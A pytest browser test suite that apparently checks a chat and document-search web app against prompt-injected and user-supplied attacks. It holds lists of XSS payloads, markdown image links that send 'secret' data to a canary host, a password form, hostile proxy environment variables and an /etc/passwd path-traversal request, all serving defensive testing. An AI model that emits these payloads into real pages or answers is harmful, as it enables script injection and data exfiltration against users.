"""Attacks in a real browser: what a model, a document, a name or an asker writes runs nowhere and calls nobody."""

from __future__ import annotations

import shutil
import urllib.error
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.doubles import ScriptedHandler, says, scripted_server
from tests.visits import EN, LIVE, Visit, browser, canary, page_home, page_served

__all__ = ["browser", "page_home"]  # fixtures
pytestmark = pytest.mark.browser

# Every way that was found for a page to fetch something or to run something, {url} being who must hear nothing.
PAYLOADS = """![a]({url}/1?q=secret) ![b][r] ![c]( {url}/2 "t" ) [![d]({url}/3)]({url}/4) <img src={url}/5>
<img src=x onerror="window.hit=1"> <img srcset="{url}/6 1x"> <picture><source srcset="{url}/7"><img></picture>
<video poster="{url}/8" src="{url}/9"></video> <audio src="{url}/10"></audio> <svg><image href="{url}/11"/></svg>
<svg onload="window.hit=1"></svg> <input type=image src="{url}/12"> <table background="{url}/13"><tr><td>x</table>
<div style="position:fixed;inset:0;background:url({url}/14)">over</div> <link rel=stylesheet href="{url}/15">
<iframe src="{url}/16"></iframe> <object data="{url}/17"></object> <embed src="{url}/18"> <base href="{url}/">
<meta http-equiv=refresh content="0;url={url}/19">
<form action="{url}/20"><input type=password><button>go</button></form>
<script>window.hit=1</script> <a href="javascript:window.hit=1">x</a> [y](javascript:window.hit=1) [z](data:text/html,x)
[v](vbscript:x) <{url}/21> "><details open ontoggle="window.hit=1"> <math><mi xlink:href="data:x">t</mi></math>
{{{{7*7}}}} ${{7*7}} $$\\href{{javascript:window.hit=1}}{{x}}$$ \\(\\url{{{url}/22}}\\)

```mermaid
graph LR; A["<img src=x onerror=window.hit=1>"]; click A "javascript:window.hit=1"
```

```html
<img src="{url}/23">
```

[r]: {url}/24.png
"""
# Half of one, where a stream ends.
CUT = "Quantization cuts serving cost by storing each weight in fewer bits. ![x]({url}/25?q="


def assert_harmless(visit: Visit, where: str) -> None:
    """Nothing ran, nothing foreign stands in what was written by somebody, nothing else was called."""
    assert visit.page.evaluate("window.hit") is None, where
    for tag in (*LIVE, "picture", "audio", "table[background]", "link", "object", "embed", "base", "meta", "button.x"):
        for part in ("#chat [data-testid]", "#sources", "#listed", "#found", "#shown", "#library-status"):
            assert visit.page.locator(f"{part} {tag}").count() == 0, f"{where}: {part} {tag}"
    foreign = visit.page.evaluate(
        """() => [...document.querySelectorAll('#chat *, #sources *, #listed *, #found *, #shown *')]
        .flatMap(e => [...e.attributes]).filter(a => /^(https?:|\\/\\/|javascript:|data:|vbscript:)/i.test(a.value)
          && !a.value.startsWith(location.origin) && !a.name.startsWith('data-') && a.name !== 'xmlns'
          && a.name !== 'title').map(a => a.name + '=' + a.value)"""
    )
    assert foreign == [], where


@pytest.fixture
def attacked(browser: Any, page_home: Path, tmp_path: Path) -> Iterator[tuple[Visit, str]]:
    """A visitor of a page whose model writes every attack; the address that must hear nothing."""
    home = tmp_path / "home"
    shutil.copytree(page_home, home, symlinks=True)
    with canary() as (url, heard):

        def attacks(handler: ScriptedHandler, body: dict[str, Any]) -> None:
            text = f"Quantization cuts serving cost by storing each weight in fewer bits. {PAYLOADS.format(url=url)}"
            ends_half = "half" in str(body["messages"][-1]["content"])[-400:]
            says(CUT.format(url=url) if ends_half else text)(handler, body)

        with (
            scripted_server(attacks) as (model, _),
            page_served(home, "--backend", "vllm", ASSISTANT_BASE_URL=model) as page_url,
        ):
            visit = Visit(browser, page_url, locale="en-US")
            yield visit, url
            assert visit.hosts == {page_url.split("/")[2]}
            visit.context.close()
        assert heard == []


def test_what_is_written_is_harmless_when_it_streams_is_kept_and_is_exported(attacked: tuple[Visit, str]) -> None:
    visit, url = attacked
    visit.ask(EN + " Half of it, or half?")
    assert_harmless(visit, "half an image at a stream's end")
    visit.ask(EN)
    assert_harmless(visit, "answer")
    visit.ask("How does quantization cut serving cost, " + " ".join(PAYLOADS.format(url=url).split())[:1500])
    assert_harmless(visit, "question")
    visit.click_and_say("#rename", '<img src=x onerror="window.hit=1">"><script>window.hit=1</script>')
    visit.page.wait_for_selector("#listed a:has-text('onerror')")
    assert_harmless(visit, "title")
    visit.page.reload()
    visit.page.wait_for_selector("#chat [data-testid=bot] >> text=onerror")
    assert_harmless(visit, "kept")
    for kind in ("Markdown", "Word", "JSON"):
        with visit.page.expect_download() as started:
            visit.page.click(f"#exports >> text={kind}")
        exported = Path(started.value.path())
        if kind == "Word":
            with zipfile.ZipFile(exported) as parts:
                external = [n for n in parts.namelist() if n.endswith(".rels") and b'"External"' in parts.read(n)]
            assert external == []
        elif kind == "Markdown":
            text = exported.read_text(encoding="utf-8")
            shown = visit.context.new_page()
            shown.set_content(rendered(text))
            assert shown.locator("img, script, iframe, form, a, svg, video, style, link").count() == 0
            shown.close()


def rendered(text: str) -> str:
    """Markdown as other programs show it, raw HTML and all."""
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark", {"html": True}).render(text))


EVIL_NAME = '<img src=x onerror="window.hit=1">.md'
EVIL_FILE = """# <img src=x onerror="window.hit=1"> Kestrel </details><script>window.hit=1</script>

## "><svg onload=window.hit=1> Budget

The Kestrel project has a budget of 417,000 euros. ![x]({url}/doc) <img src="{url}/raw" onerror="window.hit=1">

| <img src=x onerror=window.hit=1> | value |
|---|---|
| [x](javascript:window.hit=1) | 5 |
"""


def test_a_document_and_its_name_are_harmless_on_every_screen(attacked: tuple[Visit, str], tmp_path: Path) -> None:
    visit, url = attacked
    payload = {"name": EVIL_NAME, "mimeType": "text/markdown", "buffer": EVIL_FILE.format(url=url).encode()}
    broken = {"name": "<svg onload=window.hit=1>.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.4 x"}
    visit.tab("Library")
    visit.page.set_input_files("#files input[type=file]", [payload, broken])
    visit.page.wait_for_selector("#library-status :text('Added')", timeout=60_000)
    assert_harmless(visit, "added")
    visit.page.fill("#find textarea, #find input", "Kestrel budget euros")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_selector("#found summary")
    assert_harmless(visit, "found")
    visit.page.click("#document input")
    visit.page.get_by_role("option").first.click()
    visit.page.wait_for_selector("#shown summary")
    assert_harmless(visit, "shown")
    visit.tab("Chat")
    visit.ask("What is the budget of the Kestrel project?")
    assert "417,000" in visit.page.inner_text("#sources")
    assert_harmless(visit, "asked about")


def test_hostile_variables_of_the_environment_change_nothing(browser: Any, page_home: Path) -> None:
    with canary() as (url, heard), scripted_server(says("Fewer bits cut cost.")) as (model, _):
        hostile = {
            "GRADIO_SHARE": "true", "GRADIO_SERVER_NAME": "0.0.0.0", "GRADIO_VIBE_MODE": "1",
            "GRADIO_MCP_SERVER": "true", "GRADIO_ALLOWED_PATHS": "/", "GRADIO_ANALYTICS_ENABLED": "True",
            "GRADIO_ROOT_PATH": url, "GRADIO_SSR_MODE": "true", "GRADIO_CDN": url, "FORWARDED_ALLOW_IPS": "*",
            "HTTP_PROXY": url, "HTTPS_PROXY": url, "ALL_PROXY": url, "http_proxy": url, "NO_PROXY": "",
            "WEB_CONCURRENCY": "4",
        }  # fmt: skip
        with page_served(page_home, "--backend", "vllm", ASSISTANT_BASE_URL=model, **hostile) as page_url:
            visit = Visit(browser, page_url, locale="en-US")
            visit.ask(EN)
            assert "Fewer bits" in visit.page.inner_text("#chat")
            assert visit.hosts == {page_url.split("/")[2]}
            port = int(page_url.rsplit(":", 1)[1])
            assert listening_addresses(port) == {"0100007F"}
            request = urllib.request.Request(f"{page_url}/en/gradio_api/file={quote('/etc/passwd')}")
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=5)
            refused.value.close()
            visit.context.close()
    assert heard == []


def listening_addresses(port: int) -> set[str]:
    """The addresses, in hex, on which somebody listens at `port` (Linux)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text(encoding="ascii").splitlines()[1:]:
            address, state = line.split()[1], line.split()[3]
            if state == "0A" and int(address.split(":")[1], 16) == port:
                found.add(address.split(":")[0])
    return found


ATTACKS = """Quantization cuts serving cost by storing each weight in fewer bits. ![x]({url}/md?q=secret)
![y][r] <img src=x onerror="window.hit=1"><img srcset="{url}/srcset 1x"> <svg onload="window.hit=1"></svg>
<form action="{url}/form"><input type=password></form><div style="position:fixed;background:url({url}/css)">over</div>
<video poster="{url}/poster"></video> <script>window.hit=1</script> [click](javascript:window.hit=1) <{url}/auto>
```mermaid
click A "javascript:window.hit=1"
```
[1](#s-1-1) $$\\href{{javascript:window.hit=1}}{{x}}$$

[r]: {url}/reference.png
"""


def test_what_a_model_or_an_asker_writes_does_nothing_and_calls_nobody(browser: Any, page_home: Path) -> None:
    with (
        canary() as (url, heard),
        scripted_server(says(ATTACKS.format(url=url))) as (model, _),
        page_served(page_home, "--backend", "vllm", ASSISTANT_BASE_URL=model) as page_url,
    ):
        visit = Visit(browser, page_url, locale="en-US")
        visit.ask(" ".join(ATTACKS.format(url=url).split()))
        visit.ask(EN)
        for _ in range(2):
            for writer in ("user", "bot"):
                visit.page.wait_for_selector(f"#chat [data-testid={writer}] >> text=onerror")
            for tag in LIVE:
                assert visit.page.locator(f"#chat [data-testid] {tag}, #sources {tag}").count() == 0, tag
            links = visit.page.eval_on_selector_all("#chat [data-testid] a, #sources a", "e => e.map(a => a.hash)")
            assert all(link.startswith("#s-") for link in links)
            assert visit.page.evaluate("window.hit") is None
            visit.page.reload()
        assert visit.hosts == {page_url.split("/")[2]}
        visit.context.close()
    assert heard == []
